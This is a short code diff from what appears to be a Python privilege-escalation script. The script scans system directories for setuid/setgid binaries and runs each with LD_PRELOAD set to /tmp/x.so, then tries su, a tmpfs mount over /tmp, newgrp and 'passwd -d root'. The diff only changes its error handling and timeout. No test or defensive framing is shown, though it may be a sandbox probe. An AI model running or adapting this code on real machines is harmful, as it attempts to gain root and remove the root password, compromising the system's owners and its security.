@@ -5,7 +5,8 @@ for p in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*") + glob.glob("/usr/li
     try: s = os.stat(p)
     except OSError: continue
     if stat.S_ISREG(s.st_mode) and s.st_mode & (stat.S_ISUID | stat.S_ISGID):
-        r = subprocess.run([p, "--help"], stdin=subprocess.DEVNULL, capture_output=True, env={"LD_PRELOAD": "/tmp/x.so", "PATH": "/usr/bin"}, timeout=1)
+        try: subprocess.run([p, "--help"], stdin=subprocess.DEVNULL, capture_output=True, env={"LD_PRELOAD": "/tmp/x.so", "PATH": "/usr/bin"}, timeout=0.2)
+        except (OSError, subprocess.TimeoutExpired): pass
 for c in (["/usr/bin/su", "-c", "id -u"], ["/usr/bin/mount", "-t", "tmpfs", "x", "/tmp"], ["/usr/bin/newgrp"], ["/usr/bin/passwd", "-d", "root"]):
     try: r = subprocess.run(c, stdin=subprocess.DEVNULL, capture_output=True, timeout=0.2)
     except (OSError, subprocess.TimeoutExpired): continue
